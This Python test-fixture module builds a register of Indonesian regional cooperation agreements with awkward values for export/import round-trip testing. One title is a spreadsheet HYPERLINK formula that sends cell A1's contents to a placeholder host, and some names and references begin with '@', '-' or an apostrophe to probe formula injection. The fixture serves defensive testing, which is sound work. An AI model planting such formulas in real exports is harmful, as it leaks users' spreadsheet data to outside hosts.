"""A small register with every awkward value an export and import must carry: Chinese and
Indonesian names, a title that is a spreadsheet formula, a partner starting with ``@`` and holding
the cell separator, agreements with and without a reference, chains of agreements, a recorded
status the dates overrule, internal records."""

import datetime

from agreements.models import Agreement
from partners.models import Partner
from tests.factories import (
    AgreementFactory,
    CountryFactory,
    MilestoneFactory,
    PartnerFactory,
    ProvinceFactory,
    RegencyFactory,
    SectorFactory,
    SubdivisionFactory,
)

FORMULA_TITLE = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'
AT_PARTNER = "@lliance Pendidikan; Nusantara"
CHINESE_PARTNER = "安徽省"


def build_register():
    """Create the register and return its records by name."""
    kaltim = ProvinceFactory(code="64", name="Kalimantan Timur")
    samarinda = RegencyFactory(code="64.72", name="Kota Samarinda", level="city", province=kaltim)
    kalteng = ProvinceFactory(code="62", name="Kalimantan Tengah")
    bali = ProvinceFactory(code="51", name="Bali")
    china = CountryFactory(code="CN")
    indonesia = CountryFactory(code="ID")
    anhui = PartnerFactory(
        name=CHINESE_PARTNER,
        name_local="",
        kind=Partner.Kind.FOREIGN_REGION,
        country=china,
        subdivision=SubdivisionFactory(code="CN-AH", country=china),
    )
    hefei = PartnerFactory(name="Kota Hefei", kind=Partner.Kind.FOREIGN_CITY, country=china)
    alliance = PartnerFactory(name=AT_PARTNER, kind=Partner.Kind.NGO, country=indonesia)
    unmul = PartnerFactory(
        name="Universitas Mulawarman", kind=Partner.Kind.UNIVERSITY, country=indonesia
    )
    education = SectorFactory(slug="education", name_id="Pendidikan", name_en="Education")
    trade = SectorFactory(slug="trade", name_id="Perdagangan", name_en="Trade")
    food = SectorFactory(slug="food-security", name_id="Ketahanan pangan", name_en="Food security")
    tourism = SectorFactory(slug="tourism", name_id="Pariwisata", name_en="Tourism")

    anhui_mou = AgreementFactory(
        reference="120/4321/B.Kerjasama/2024",
        title="Kerja sama Provinsi Kalimantan Timur dan Provinsi Anhui",
        kind=Agreement.Kind.MOU,
        scope="ksdpl",
        # Recorded as signed; in force since its date, so it *shows* as in force.
        status=Agreement.Status.SIGNED,
        lead_region=kaltim,
        partners=[anhui],
        sectors=[education, trade, food],
        proposed_on=datetime.date(2023, 12, 5),
        signed_on=datetime.date(2024, 6, 10),
        in_force_from=datetime.date(2024, 6, 10),
        expires_on=datetime.date(2029, 6, 9),
        summary="Pendidikan, perdagangan, investasi;\n“hilirisasi” industri.",
        source_url="https://contoh.invalid/berita/kaltim-anhui",
    )
    MilestoneFactory(
        agreement=anhui_mou,
        kind="signing",
        title="Penandatanganan",
        done_on=datetime.date(2024, 6, 10),
        due_on=None,
    )
    MilestoneFactory(
        agreement=anhui_mou,
        kind="evaluation",
        title="Monev tahun pertama",
        due_on=datetime.date(2025, 6, 30),
    )
    MilestoneFactory(
        agreement=anhui_mou,
        kind="activity",
        title="Beasiswa guru",
        due_on=datetime.date(2026, 9, 1),
    )
    sister_city = AgreementFactory(
        reference="",
        title="Rencana kota kembar Samarinda – Hefei",
        kind=Agreement.Kind.LOI,
        scope="ksdpl",
        status=Agreement.Status.EXPLORATION,
        lead_region=samarinda,
        partners=[hefei],
        sectors=[tourism],
        proposed_on=datetime.date(2024, 4, 23),
        signed_on=None,
        in_force_from=None,
        expires_on=None,
        follows=anhui_mou,
        relation=Agreement.Relation.SPAWNS,
        visibility=Agreement.Visibility.INTERNAL,
    )
    formula = AgreementFactory(
        reference="-7/KSDD/2019",
        title=FORMULA_TITLE,
        kind=Agreement.Kind.MOU,
        scope="ksdd",
        # Recorded as in force, but past its expiry: shows as expired.
        status=Agreement.Status.IN_FORCE,
        lead_region=kalteng,
        regions=[bali],
        sectors=[tourism],
        signed_on=datetime.date(2019, 3, 1),
        in_force_from=datetime.date(2019, 3, 1),
        expires_on=datetime.date(2024, 2, 29),
    )
    extension = AgreementFactory(
        reference="'ext/2024",
        title="Perpanjangan kerja sama Kalteng – Bali",
        kind=Agreement.Kind.AMENDMENT,
        scope="ksdd",
        status=Agreement.Status.PREPARATION,
        lead_region=kalteng,
        regions=[bali],
        signed_on=None,
        in_force_from=None,
        expires_on=None,
        follows=formula,
        relation=Agreement.Relation.EXTENDS,
    )
    campus = AgreementFactory(
        reference="",
        title="PKS beasiswa daerah dengan Universitas Mulawarman",
        kind=Agreement.Kind.PKS,
        scope="ksdpk",
        status=Agreement.Status.IN_FORCE,
        lead_region=kaltim,
        regions=[samarinda],
        partners=[unmul, alliance],
        sectors=[education],
        signed_on=datetime.date(2025, 1, 20),
        in_force_from=datetime.date(2025, 2, 1),
        expires_on=datetime.date(2030, 1, 19),
        visibility=Agreement.Visibility.INTERNAL,
    )
    return {
        "kaltim": kaltim,
        "samarinda": samarinda,
        "kalteng": kalteng,
        "bali": bali,
        "anhui": anhui,
        "hefei": hefei,
        "alliance": alliance,
        "unmul": unmul,
        "education": education,
        "trade": trade,
        "food": food,
        "tourism": tourism,
        "anhui_mou": anhui_mou,
        "sister_city": sister_city,
        "formula": formula,
        "extension": extension,
        "campus": campus,
    }


def snapshot():
    """Every agreement as comparable values: its fields, its follows, its parties and sectors."""
    rows = []
    for agreement in Agreement.objects.select_related("lead_region", "follows").prefetch_related(
        "regions", "partners", "sectors"
    ):
        follows = agreement.follows
        rows.append(
            (
                agreement.reference,
                agreement.title,
                agreement.kind,
                agreement.scope,
                agreement.status,
                agreement.visibility,
                agreement.lead_region.code,
                agreement.summary,
                agreement.source_url,
                agreement.proposed_on,
                agreement.signed_on,
                agreement.in_force_from,
                agreement.expires_on,
                (follows.reference, follows.title) if follows else None,
                agreement.relation,
                sorted(region.code for region in agreement.regions.all()),
                sorted((p.name, p.country_id) for p in agreement.partners.all()),
                sorted(sector.slug for sector in agreement.sectors.all()),
            )
        )
    return sorted(rows, key=lambda row: (row[0], row[1]))
